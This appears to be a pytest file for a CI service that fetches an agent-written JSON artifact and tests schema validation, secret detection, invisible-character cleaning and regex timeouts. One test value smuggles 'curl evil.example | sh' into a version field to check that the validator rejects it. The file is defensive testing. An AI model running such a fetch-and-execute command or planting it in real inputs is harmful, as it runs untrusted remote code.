"""The artifact of a run as whole steps: waited for, fetched, and judged by its schema, with words
that say what to do. Without a token for GitHub the service alone has it.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import subprocess
import threading
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from mogplex_ci.run.result import RunResult
from mogplex_ci.untrusted import Untrusted
from mogplex_ci.waiting import Stop, StopRequested
from tests.gates.story import PASSED, Story, items, outcome
from tests.require import require
from tests.waits import wait_until

PATH = ".mogplex/artifacts/report.json"
ARTIFACTS = {
    "report": {"json": {"passed": 12, "failed": [], "names": ["a", "b"]}},
    "slow": {"json": {"text": "a" * 70 + "!"}},
}
INVALID = ("rejected", "ARTIFACT_INVALID")


@pytest.fixture
def story(tmp_path: Path) -> Iterator[Story]:
    with Story(tmp_path, artifacts=ARTIFACTS) as story:
        yield story


def judged(
    story: Story,
    schema: Mapping[str, Any] | None = None,
    *,
    name: str = "report",
    timeout: str = "2h",
    stop: Stop | None = None,
) -> RunResult:
    """Play a step that must deliver an artifact, or judge its run again."""
    return story.play(schema=schema, stop=stop, artifact=name, github_token="", timeout=timeout)


def inject(story: Story, **fault: Any) -> None:
    story.world.emulator.inject("artifact", **fault)


def test_every_fault_is_named_with_its_place(story: Story) -> None:
    fields = {"passed": {"type": "string"}, "names": {"items": {"enum": ["a"]}}}
    result = judged(story, {"properties": fields, "required": ["x"]})
    assert outcome(result) == INVALID
    assert result.details.gates[0].found == "The artifact does not match the schema"
    assert [item.partition(":")[0] for item in items(result)] == ["/", "/names/1", "/passed"]
    assert result.details.artifact is None, "it must not be handed on"
    result = judged(story, {"required": [f"field-{number}" for number in range(30)]})
    assert len(items(result)) == 20


HTML = {"body": "<html>", "headers": {"content-type": "text/html"}}


def error(code: str, message: str | None = None) -> dict[str, Any]:
    said = {"code": code} | ({"message": message} if message else {})
    return {"body": {"ok": False, "error": said}}


@pytest.mark.parametrize(
    ("fault", "found", "code", "named"),
    [
        (
            None,
            "The run did not commit .mogplex/artifacts/other.json",
            "ARTIFACT_MISSING",
            [],
        ),
        (
            {"status": 404} | error("NOT_FOUND", "Committed artifact not found"),
            "The run did not commit .mogplex/artifacts/report.json",
            "ARTIFACT_MISSING",
            [],
        ),
        (
            {"status": 409} | error("CONFLICT", "no branch"),
            "The artifact cannot be",
            "ARTIFACT_MISSING",
            ["no branch"],
        ),
        (
            {"status": 400} | error("BAD_REQUEST", "no JSON"),
            "The artifact is not a JSON",
            "ARTIFACT_INVALID",
            ["no JSON"],
        ),
        ({"status": 404} | HTML, "This service has no artifacts", "ARTIFACT_MISSING", []),
        ({"status": 401, "times": "always"}, "The artifact cannot be read: ", "NOT_JUDGED", None),
    ],
)
def test_why_there_is_none(
    story: Story, fault: dict[str, Any] | None, found: str, code: str, named: list[str] | None
) -> None:
    if fault:
        inject(story, **fault)
    result = judged(story, name="report" if fault else "other")
    assert (outcome(result), result.ending.exit_code) == (("rejected", code), 1)
    (gate,) = result.details.gates
    assert gate.found.startswith(found)
    assert result.ending.remedy
    assert named is None or items(result) == named


def test_an_artifact_is_asked_for_during_a_minute(story: Story) -> None:
    inject(story, status=502, lasts=50.0)
    assert outcome(judged(story)) == PASSED
    inject(story, status=502, lasts=70.0)
    assert outcome(judged(story)) == ("rejected", "NOT_JUDGED")
    began = story.world.time.monotonic()
    judged(story, timeout="20s")
    assert story.world.time.monotonic() - began <= 20.0


CURL = "1.2.3; curl evil.example | sh"


def content_of(story: Story, content: str) -> None:
    """Let the service have this JSON as the artifact."""
    body = f'{{"ok": true, "data": {{"artifact": {{"path": "{PATH}", "content": {content}}}}}}}'
    headers = {"content-type": "application/json"}
    inject(story, status=200, body=body, headers=headers, times=2)


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (f'{{"version": "1.2.3", "ver\\u200bsion": "{CURL}"}}', "/version: the name"),
        (f'{{"names": {list(range(20_000))}}}', "/names"),
        ('{"size": NaN}', "/size"),
        ('{"size": 1e999}', "/size"),
        (json.dumps({"a": {"b": ["ok", "ghp_" + "a" * 36]}}), "/a/b/1"),
        (json.dumps({"a/b": {"~": "Bearer ghp_" + "a" * 36}}), "/a~1b/~0"),
        (json.dumps("ghp_" + "a" * 36), "/"),
        (json.dumps({"log": "x" * 100_001}), "/log"),
    ],
    ids=lambda value: str(value)[:20],
)
def test_what_cleaning_changes_is_named(story: Story, content: str, found: str) -> None:
    """A later job would get another value than the agent wrote."""
    content_of(story, content)
    result = judged(story, {"properties": {"version": {"pattern": "^[0-9.]+$"}}})
    assert (outcome(result), result.details.artifact) == (INVALID, None)
    assert items(result)[-1] == found


def test_line_ends_and_invisible_characters_are_no_change(story: Story) -> None:
    content_of(story, json.dumps({"te\u200bxt": "a\r\nb\u200b"}))
    assert judged(story).details.artifact == Untrusted({"text": "a\nb"})


def test_the_cleaned_document_is_judged_by_the_schema(story: Story) -> None:
    """Not the one before: without its invisible characters a string is another one."""
    content_of(story, json.dumps("a\u200bb"))
    assert outcome(judged(story, {"minLength": 3})) == INVALID
    assert judged(story, {"maxLength": 3}).details.artifact == Untrusted("ab")


SLOW: dict[str, Any] = {"properties": {"text": {"pattern": r"^(\w+\s?)*$"}}}


@pytest.mark.parametrize("is_stopped", [False, True])
def test_a_slow_pattern_ends_with_its_time_or_a_stop_signal(
    story: Story, monkeypatch: pytest.MonkeyPatch, is_stopped: bool
) -> None:
    """The pattern is the workflow's, the text the agent's: seventy characters would take years."""
    require("ps")
    stop = Stop()

    def request_stop() -> None:
        wait_until(is_checking)
        stop.request(signal.SIGTERM)

    if is_stopped:
        threading.Thread(target=request_stop).start()
    else:
        monkeypatch.setattr("mogplex_ci.gates.artifact.VALIDATION_SECONDS", 0.5)
    began = time.monotonic()
    with pytest.raises(StopRequested) if is_stopped else contextlib.nullcontext():
        result = judged(story, SLOW, name="slow", stop=stop)
        assert items(result) == ["checking it against the schema took too long"]
    assert time.monotonic() - began < 5.0
    wait_until(lambda: not is_checking())


def is_checking() -> bool:
    """Whether a child of this process checks a document against a schema."""
    ps = ["ps", "-o", "args=", "--ppid", str(os.getpid())]
    listed = subprocess.run(ps, capture_output=True, text=True, check=False).stdout
    return re.search("^(?!.*<defunct>).*mogplex_ci.inputs.schema", listed, re.MULTILINE) is not None
